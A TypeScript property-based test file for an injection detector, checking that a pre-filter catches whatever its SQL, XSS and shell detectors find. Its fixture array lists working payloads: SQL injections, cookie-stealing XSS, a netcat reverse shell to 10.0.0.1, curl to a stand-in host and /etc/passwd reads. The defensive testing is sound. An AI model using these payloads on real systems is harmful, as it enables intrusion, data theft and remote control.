import assert from 'node:assert/strict';
import fc from 'fast-check';
import { describe, it } from 'mocha';
import type { Match } from './finding.ts';
import { frameOf } from './frame.ts';
import { findShell } from './shell.ts';
import { findSql } from './sql.ts';
import { suspicion, suspicionOf } from './suspicion.ts';
import { Suspect } from './suspicion-walk.ts';
import { findXss } from './xss.ts';

const attacks = [
  "x' or '1'='1",
  '1 or 1=1--',
  '-1 union all select 1,2,3 from users',
  '1e1AND-1=0.0UNION SELECT 2',
  "1' and sleep(5)#",
  "'; waitfor delay '0:0:5'--",
  '1;drop table users',
  "admin'/*",
  "admin') or ('a'='a",
  '(select case when 1=1 then 1 else 1/0 end)',
  '1 and extractvalue(1,concat(0x7e,version()))',
  "'||utl_http.request('http://x.example')||'",
  "1' into outfile '/tmp/x'",
  '1 having 1 like 1',
  '1 procedure analyse(1)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=prompt`1`>',
  '" autofocus onfocus=confirm(1) x="',
  'javascript:alert(document.cookie)',
  'data:text/html,<b>x</b>',
  "';alert(1)//",
  '{{constructor.constructor("x")()}}',
  '<div style="width:expression(alert(1))">',
  '<a href="j\na\nv\na\ns\nc\nr\ni\np\nt:alert(1)">',
  '; cat /etc/passwd',
  '$(curl http://x.example/a)',
  '`id`',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '& dir c:\\',
  '() { :;}; /bin/bash -c id',
  '${IFS}cat${IFS}/etc/passwd',
  "system('id')",
  '&& powershell -enc AAAA',
  "c''at /etc/passwd;",
  '<!--#exec cmd="id"-->',
  'a=c;$a at /etc/hosts',
  'if not exist c:\\x (cmd) else (cmd)',
];

const pieces = fc.constantFrom(
  ...attacks.flatMap((each) => each.match(/\w+|\s+|[^\w\s]+/g) ?? []),
  'the',
  'order',
  'and',
  'is',
  "don't",
  '. ',
  ', ',
  '\n',
  '\u2019',
  '한글',
  '12',
);
const attack = fc.constantFrom(...attacks);

/** An attack cut short at either end, with words and marks taken out, put in or exchanged. */
const mutated = fc
  .tuple(attack, fc.nat(), fc.nat(), fc.array(fc.tuple(fc.nat(), fc.nat(2), pieces), { maxLength: 3 }))
  .map(([text, from, length, changes]) => {
    const start = from % 3 === 0 ? from % text.length : 0;
    const tokens = text.slice(start, length % 3 === 0 ? start + 1 + (length % text.length) : undefined);
    const list: string[] = tokens.match(/\w+|\s+|[^\w\s]/g) ?? [];
    for (const [at, removed, piece] of changes) list.splice(at % (list.length + 1), removed, piece);
    return list.join('');
  });
const soup = fc.array(pieces, { minLength: 1, maxLength: 12 }).map((each) => each.join(''));
const sentence = fc.tuple(attack, fc.nat()).map(([each, at]) => {
  const prose = 'Please tell the customer, who asked about the late order on Monday, what the new date is. ';
  return prose.slice(0, at % prose.length) + each + prose.slice(at % prose.length);
});

const detectors = [
  ['sql', findSql],
  ['xss', findXss],
  ['shell', findShell],
] as const;

/** What surely counts whatever the text is; in a program or a document much of it is content. */
function isCertain(match: Match, text: string): boolean {
  return match.attack !== 'budget' && frameOf(text) === 'plain';
}

describe('the headers that nearly every request has', () => {
  it('are suspected of nothing, since judging them would cost more than all else', () => {
    for (const header of [
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0',
    ])
      assert.equal(suspicion(header), 0);
  });
});

describe('the look at a text', () => {
  it('lets no text pass in which a detector finds something', () => {
    fc.assert(
      fc.property(fc.oneof(mutated, soup, sentence), (text) => {
        const suspected = suspicion(text);
        for (const [name, find] of detectors) {
          const match = suspected & Suspect[name] ? null : find(text);
          assert.ok(!match || !isCertain(match, text), `${match?.rule} in ${JSON.stringify(text)}`);
        }
      }),
      { seed: 7, numRuns: 4000 },
    );
  });

  it('says the same of a text wherever it stands among others', () => {
    fc.assert(
      fc.property(fc.oneof(mutated, soup), fc.string({ unit: 'grapheme', maxLength: 20 }), (text, around) => {
        const before = Buffer.from(around);
        const bytes = Buffer.concat([before, Buffer.from(text), before]);
        const end = bytes.length - before.length;
        assert.equal(suspicionOf(bytes, before.length, end), suspicion(text));
      }),
      { seed: 7, numRuns: 1000 },
    );
  });

  it('says nothing of ordinary values', () => {
    for (const text of [
      'Support agent',
      'gpt-4o-mini',
      'eu-central',
      'Looks up what the customer asked for in source 3 and answers in one sentence.',
      'Be brief and kind. '.repeat(60),
      '고객 문의 내용은 다음과 같습니다. 확인 부탁드립니다!',
      'cx-team@example.com',
      'https://example.com/a/b?c=d',
      '2025-03-14T10:00:00.000Z',
      '6f1c0e2a-8b7d-4c11-9a3f-0123456789ab',
    ])
      assert.equal(suspicion(text), 0, text);
  });
});
